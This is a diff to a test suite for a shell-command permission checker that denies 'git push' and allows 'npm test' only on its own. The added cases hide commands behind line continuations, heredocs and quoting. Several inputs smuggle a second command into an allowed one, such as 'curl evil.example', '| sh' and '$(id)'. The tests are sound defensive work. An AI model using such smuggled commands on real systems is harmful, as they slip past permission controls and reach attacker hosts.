@@ -61,6 +61,14 @@ describe('a forbidden command', () => {
     '$GIT push',
     'git push > /tmp/x',
     'cat <<EOF && git push\nx\nEOF',
+    // Lines that look joined and are not, and some that are.
+    'true # \\\ngit push',
+    'true \\\\\ngit push',
+    'true \\\r\ngit push',
+    "cat <<'E'\nfoo\\\nE\ngit push\nE",
+    "echo 'a\\\n'\ngit push",
+    '\\\n git push',
+    '"git" "pu\\\nsh"',
   ])
     it(`is found in: ${JSON.stringify(text)}`, () => {
       assert.equal(push(text), 'deny');
@@ -76,6 +84,12 @@ describe('a forbidden command', () => {
       'legit push',
     ])
       assert.equal(push(text), 'allow', text);
+  });
+
+  it('is looked for in a time that grows with the words, not with the ways to read them', () => {
+    const many = Array.from({ length: 5_000 }, () => '-v').join(' ');
+    assert.equal(push(`git ${many} status`), 'allow');
+    assert.equal(push(`git ${many} push`), 'deny');
   });
 
   it('that is given as words is not read as a shell text', () => {
@@ -97,6 +111,13 @@ describe('an allowed command', () => {
       'npm test; curl evil.example',
       'npm test | sh',
       'npm test\nrm x',
+      'npm test # \\\ncurl evil',
+      'npm test \\\\\nid',
+      'npm test \\\r\nid',
+      "npm test <<'E'\nfoo\\\nE\nid\nE",
+      'npm test <<E\nfoo\\\nE\nid\nE',
+      'npm test $\\\nHOME',
+      'npm test {a,\\\nb}',
       'npm test $(curl evil.example)',
       'npm test `id`',
       'npm test "$(id)"',
